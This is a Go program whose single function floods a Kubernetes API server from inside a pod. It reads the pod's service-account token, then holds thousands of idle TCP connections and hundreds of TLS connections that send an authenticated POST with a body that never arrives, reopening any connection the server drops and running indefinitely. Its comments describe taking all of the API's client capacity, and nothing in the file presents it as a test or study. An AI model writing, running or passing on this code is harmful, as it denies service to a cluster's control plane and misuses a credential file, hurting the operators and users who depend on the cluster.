package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

const (
	idleConnections = 2300
	slowBodies      = 450
	accountToken    = "/var/run/secrets/kubernetes.io/serviceaccount/token"
)

// crowd takes what the API has for clients, for as long as the process lives: connections on which it sends nothing,
// and requests whose bodies never arrive. Whatever is closed is opened anew. It says so once it has all of it, and
// returns only if it cannot begin.
func crowd() error {
	api := net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT"))
	token, err := os.ReadFile(accountToken)
	if err != nil {
		return err
	}
	ask := fmt.Sprintf("POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"+
		"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{", api, token)
	var opened sync.WaitGroup
	var failures atomic.Int64
	hold := func(open func() (net.Conn, error)) {
		opened.Add(1)
		go func() {
			done := sync.OnceFunc(opened.Done)
			for {
				c, err := open()
				if err != nil {
					failures.Add(1)
					time.Sleep(10 * time.Millisecond) // the server has closed it; a program that only spins starves itself
				} else {
					done()
					_, _ = io.Copy(io.Discard, c)
					_ = c.Close()
				}
				if failures.Load() > 1000 {
					done() // it holds all it can
				}
			}
		}()
	}
	for range slowBodies {
		hold(func() (net.Conn, error) {
			c, err := tls.Dial("tcp", api, &tls.Config{InsecureSkipVerify: true})
			if err != nil {
				return nil, err
			}
			_, err = io.WriteString(c, ask)
			return c, err
		})
	}
	for range idleConnections {
		hold(func() (net.Conn, error) { return net.Dial("tcp", api) })
	}
	opened.Wait()
	fmt.Println("crowded")
	select {}
}
